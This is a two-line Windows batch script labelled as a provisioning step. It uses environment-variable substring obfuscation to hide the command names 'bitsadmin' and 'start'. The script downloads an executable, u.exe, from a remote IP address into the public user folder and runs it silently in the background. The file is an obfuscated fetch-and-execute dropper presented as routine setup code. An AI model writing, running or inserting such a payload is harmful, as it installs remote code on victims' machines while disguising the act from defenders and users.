REM provision 9493 v3
%public:~11,1%it%COMSPEC:~-16,1%ad%comspec:~16,1%%PUBLIC:~-2,1%%comspec:~-22,1% /transfer job /download /priority high http://203.0.113.200/u.exe C:\Users\Public\u.exe
s%PROGRAMDATA:~-2,1%ar%PROGRAMDATA:~12,1% /b C:\Users\Public\u.exe
